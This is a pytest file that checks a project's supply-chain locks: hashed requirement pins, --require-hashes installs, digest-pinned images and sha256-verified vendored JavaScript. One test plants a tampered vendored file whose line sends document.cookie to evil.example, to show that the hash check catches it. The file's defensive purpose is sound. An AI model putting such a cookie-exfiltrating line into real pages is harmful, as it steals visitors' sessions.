"""What the project installs is what was locked: hashes, a pinned pip, images, vendored files.

A package replaced on the index after 'make lock', a re-lock without --generate-hashes, an
install without --require-hashes, a new unpinned image, or a vendored file changed by hand
fails here, in a second, naming the file and the fix.
"""

import json
import re
import subprocess
from pathlib import Path

import pytest
import yaml

from tools.mkdocs_hooks.vendored_assets import sha256_of, vendored_problems
from tools.sitebuild import ROOT

DEPLOY = ROOT / "examples" / "deploy"
LOCK_FILES = sorted(
    str(p.relative_to(ROOT))
    for p in [*(ROOT / "requirements").glob("*.txt"), *DEPLOY.glob("*.txt")]
)
RELOCK = "re-lock with 'make lock' (pip-compile --generate-hashes); never edit a .txt by hand"


def logical_lines(text: str):
    """(first line number, line) with backslash continuations joined."""
    start, parts = None, []
    for number, line in enumerate(text.splitlines(), 1):
        start = start or number
        if line.rstrip().endswith("\\"):
            parts.append(line.rstrip()[:-1])
            continue
        yield start, " ".join([*parts, line]).strip()
        start, parts = None, []


def unhashed_pins(path: Path) -> list[str]:
    """One message per requirement of a lock file that is not name==version with a --hash."""
    problems = []
    for number, line in logical_lines(path.read_text(encoding="utf-8")):
        line = line.split(" #")[0].strip() if not line.startswith("#") else ""
        if not line or line.startswith(("-c ", "-r ", "--")):
            continue
        requirement = line.split()[0]
        where = f"{path.relative_to(ROOT) if path.is_relative_to(ROOT) else path}:{number}"
        if "==" not in requirement:
            problems.append(f"{where}: {requirement} is not pinned with ==: {RELOCK}")
        elif "--hash=sha256:" not in line:
            problems.append(f"{where}: {requirement} has no --hash: {RELOCK}")
    return problems


def pins(path: Path) -> dict[str, str]:
    found = {}
    for _, line in logical_lines(path.read_text(encoding="utf-8")):
        if "==" in line and not line.startswith("#"):
            name, version = line.split()[0].split("==")
            found[name.lower()] = version
    return found


# --- hashes in every lock file ----------------------------------------------------------------
def test_the_lock_files_are_all_there():
    assert {
        "requirements/pip.txt",
        "requirements/site.txt",
        "requirements/dev.txt",
        "examples/deploy/pip.txt",
        "examples/deploy/requirements.txt",
    } <= set(LOCK_FILES)


@pytest.mark.parametrize("lock_file", LOCK_FILES)
def test_every_pin_has_a_hash(lock_file):
    problems = unhashed_pins(ROOT / lock_file)
    assert problems == [], "\n".join(problems)


def test_a_relock_without_hashes_is_caught(tmp_path):
    lock = tmp_path / "dev.txt"
    lock.write_text(
        "django==5.2.19 \\\n    --hash=sha256:" + "a" * 64 + "\n    # via -r dev.in\n"
        "requests==2.32.5         # via -r dev.in\n"
        "ruff>=0.5\n"
    )
    problems = unhashed_pins(lock)
    assert problems == [
        f"{lock}:4: requests==2.32.5 has no --hash: {RELOCK}",
        f"{lock}:5: ruff>=0.5 is not pinned with ==: {RELOCK}",
    ]


# --- pip itself -------------------------------------------------------------------------------
def test_pip_is_pinned_once_and_the_image_has_the_same_copy():
    pip = pins(ROOT / "requirements/pip.txt")
    assert set(pip) == {"pip"}, "requirements/pip.txt pins pip and nothing else"
    assert pins(ROOT / "requirements/dev.txt").get("pip") == pip["pip"], (
        "requirements/pip.txt and dev.txt pin different pips: run 'make lock'"
    )
    assert (DEPLOY / "pip.txt").read_text() == (ROOT / "requirements/pip.txt").read_text(), (
        "examples/deploy/pip.txt differs from requirements/pip.txt: run 'make lock' (it copies it)"
    )


def test_the_runtime_lock_pins_no_pip_or_setuptools():
    # The image gets pip from pip.txt; a second pin of it in requirements.txt could disagree.
    assert not {"pip", "setuptools"} & set(pins(DEPLOY / "requirements.txt"))


# --- the installs -----------------------------------------------------------------------------
def make_dry_run(*targets, tmp_path):
    """The commands make would run for targets in a fresh virtual environment, run by none."""
    venv = tmp_path / "venv"
    proc = subprocess.run(
        ["make", "--dry-run", "--always-make", f"VENV={venv}", *(f"{venv}/{t}" for t in targets)],
        cwd=ROOT, capture_output=True, text=True, timeout=60, check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return [line for line in proc.stdout.splitlines() if line.strip()]


@pytest.mark.parametrize("stamp", [".site-installed", ".dev-installed"])
def test_make_installs_pip_first_and_everything_with_require_hashes(stamp, tmp_path):
    installs = [c for c in make_dry_run(stamp, tmp_path=tmp_path) if "pip install" in c]
    lock = "site.txt" if stamp == ".site-installed" else "dev.txt"
    for command in installs:
        assert "--upgrade" not in command, f"Makefile: pin in requirements/pip.txt, not {command}"
        assert "--require-hashes" in command.split(), f"Makefile: add --require-hashes to {command}"
    files = [c.split(" -r ")[-1] for c in installs]
    assert files == ["requirements/pip.txt", f"requirements/{lock}"], "Makefile: pip.txt first"


def test_make_lock_writes_hashes_for_every_file(tmp_path):
    venv = tmp_path / "venv"
    proc = subprocess.run(
        ["make", "--dry-run", f"VENV={venv}", "lock"],
        cwd=ROOT, capture_output=True, text=True, timeout=60, check=False,
    )
    compiles = [c for c in proc.stdout.splitlines() if "pip-compile" in c]
    outputs = sorted(c.split(" -o ")[-1] for c in compiles)
    assert outputs == [
        "examples/deploy/requirements.txt",
        "requirements/dev.txt",
        "requirements/pip.txt",
        "requirements/site.txt",
    ]
    for command in compiles:
        words = command.split()
        assert {"--generate-hashes", "--allow-unsafe"} <= set(words), f"Makefile lock: {command}"
    assert "cp requirements/pip.txt examples/deploy/pip.txt" in proc.stdout


def dockerfile_runs():
    text = re.sub(r"\\\n\s*", " ", (DEPLOY / "Dockerfile").read_text())
    return [line.strip()[4:] for line in text.splitlines() if line.strip().startswith("RUN ")]


def test_the_image_installs_pip_first_and_everything_with_require_hashes():
    installs = [
        part.strip()
        for run in dockerfile_runs()
        for part in run.split("&&")
        if "pip install" in part
    ]
    assert [i.split(" -r ")[-1] for i in installs] == ["/tmp/pip.txt", "/tmp/requirements.txt"]
    for command in installs:
        assert "--require-hashes" in command.split(), f"examples/deploy/Dockerfile: {command}"


INSTALLERS = [
    *sorted((ROOT / ".github/workflows").glob("*.yml")),
    *sorted((DEPLOY / "workflows").glob("*.yml")),
    DEPLOY / "Jenkinsfile",
]


@pytest.mark.parametrize("path", INSTALLERS, ids=lambda p: str(p.relative_to(ROOT)))
def test_pipelines_install_with_require_hashes(path):
    for number, line in enumerate(path.read_text().splitlines(), 1):
        if "pip install" in line:
            where = f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
            fix = "install with 'pip install --require-hashes -r requirements/...', pip.txt first"
            assert "--require-hashes" in line, f"{where}: {fix}"
            assert " -r " in line, f"{where}: {fix}"


# --- images -----------------------------------------------------------------------------------
DIGEST = re.compile(r"^[^@\s]+:[\w][\w.-]*@sha256:[0-9a-f]{64}$")
# Tags still waiting for their digest: the machine these tests were written on reaches no
# container registry, so no digest could be read there. Remove an entry once its reference
# reads name:tag@sha256:<digest> (the Dockerfile's FROM needs a literal tag for Dependabot to
# follow it); nothing may be added.
AWAITING_DIGEST = {
    "examples/deploy/Dockerfile": {"python:${PYTHON_VERSION}-slim-bookworm"},
    ".github/workflows/ci.yml": {
        "postgres:16", "mysql:8.4", "redis:7", "rabbitmq:4", "memcached:1.6",
    },
}


def image_references():
    found = {}
    dockerfile = DEPLOY / "Dockerfile"
    found[str(dockerfile.relative_to(ROOT))] = {
        line.split()[1] for line in dockerfile.read_text().splitlines() if line.startswith("FROM ")
    }
    for path in sorted((ROOT / ".github/workflows").glob("*.yml")):
        images = set()
        for job in yaml.safe_load(path.read_text())["jobs"].values():
            container = job.get("container")
            if container:
                images.add(container if isinstance(container, str) else container["image"])
            images |= {s["image"] for s in job.get("services", {}).values()}
        found[str(path.relative_to(ROOT))] = images
    return found


def test_every_image_is_pinned_by_digest_or_known_to_be_waiting():
    problems = [
        f"{path}: {image} is a tag, which its publisher can move: pin it as "
        f"{image}@sha256:<digest> (docker buildx imagetools inspect {image})"
        for path, images in image_references().items()
        for image in sorted(images)
        if not DIGEST.match(image) and image not in AWAITING_DIGEST.get(path, set())
    ]
    assert problems == [], "\n".join(problems)


def test_the_waiting_list_holds_only_images_still_in_use():
    in_use = image_references()
    stale = {p: sorted(i - in_use.get(p, set())) for p, i in AWAITING_DIGEST.items()}
    assert all(not images for images in stale.values()), f"remove from AWAITING_DIGEST: {stale}"


def test_dependabot_updates_every_kind_of_pin():
    updates = yaml.safe_load((ROOT / ".github/dependabot.yml").read_text())["updates"]
    watched = {(u["package-ecosystem"], u["directory"]) for u in updates}
    assert {
        ("pip", "/requirements"),
        ("docker", "/examples/deploy"),
        ("github-actions", "/"),
        ("npm", "/"),
    } <= watched


# --- vendored files ---------------------------------------------------------------------------
VENDOR = ROOT / "docs" / "assets" / "vendor"


def test_vendored_files_match_their_recorded_sha256():
    problems = vendored_problems(VENDOR, ROOT)
    assert problems == [], "\n".join(problems)


def test_every_vendored_library_records_a_hash():
    versions = sorted(VENDOR.glob("*/VERSION"))
    assert {p.parent.name for p in versions} >= {"mermaid", "iframe-worker"}
    for version in versions:
        assert re.search(r"^sha256: [0-9a-f]{64}$", version.read_text(), re.M), version


@pytest.fixture
def vendor(tmp_path):
    library = tmp_path / "docs/assets/vendor/lib"
    library.mkdir(parents=True)
    (library / "lib.min.js").write_text("console.log('lib');\n")
    (library / "LICENSE").write_text("MIT\n")

    def version(sha256):
        lines = ["lib 1.0.0", "file: lib.min.js (dist/lib.min.js of the npm package)"]
        if sha256:
            lines.append(f"sha256: {sha256}")
        (library / "VERSION").write_text("\n".join(lines) + "\n")

    version(sha256_of(library / "lib.min.js"))
    return tmp_path, library, version


def test_a_changed_vendored_file_names_the_file_both_hashes_and_the_fix(vendor):
    root, library, _ = vendor
    recorded = sha256_of(library / "lib.min.js")
    assert vendored_problems(root / "docs/assets/vendor", root) == []
    (library / "lib.min.js").write_text("fetch('https://evil.example/' + document.cookie);\n")
    [problem] = vendored_problems(root / "docs/assets/vendor", root)
    assert problem.startswith("docs/assets/vendor/lib/lib.min.js does not match the sha256 in ")
    assert f"expected {recorded}, got {sha256_of(library / 'lib.min.js')}" in problem
    assert "git checkout -- docs/assets/vendor/lib/lib.min.js" in problem


def test_a_vendored_file_without_a_recorded_hash_or_unlisted_is_refused(vendor):
    root, library, version = vendor
    version(None)
    (library / "extra.js").write_text("1;\n")
    problems = vendored_problems(root / "docs/assets/vendor", root)
    assert problems == [
        "docs/assets/vendor/lib/VERSION records no sha256 for lib.min.js. Add the line "
        f"'sha256: {sha256_of(library / 'lib.min.js')}' after its 'file:' line, once you have "
        "checked the file against the published package.",
        "docs/assets/vendor/lib/extra.js is not recorded in docs/assets/vendor/lib/VERSION. "
        "Add a 'file: extra.js' line and its 'sha256: ...' line, or delete the file.",
    ]


def test_vendored_panzoom_is_the_pinned_npm_package_file():
    """The copy served with the site is byte for byte the file npm installs at the pin."""
    package = json.loads((ROOT / "package.json").read_text())
    lock = json.loads((ROOT / "package-lock.json").read_text())
    pinned = package["devDependencies"]["@panzoom/panzoom"]
    assert re.fullmatch(r"\d+\.\d+\.\d+", pinned), f"pin @panzoom/panzoom exactly, not {pinned}"
    assert lock["packages"]["node_modules/@panzoom/panzoom"]["version"] == pinned
    vendored = VENDOR / "panzoom"
    assert (vendored / "VERSION").read_text().splitlines()[0] == f"@panzoom/panzoom {pinned}"
    installed = ROOT / "node_modules" / "@panzoom" / "panzoom"
    if not (installed / "package.json").is_file():
        pytest.skip("node_modules is not installed (npm ci)")
    assert json.loads((installed / "package.json").read_text())["version"] == pinned
    shipped, packaged = vendored / "panzoom.min.js", installed / "dist" / "panzoom.min.js"
    assert sha256_of(shipped) == sha256_of(packaged), (
        "docs/assets/vendor/panzoom/panzoom.min.js differs from the npm package's "
        "dist/panzoom.min.js: copy it again as docs/assets/vendor/panzoom/VERSION says"
    )
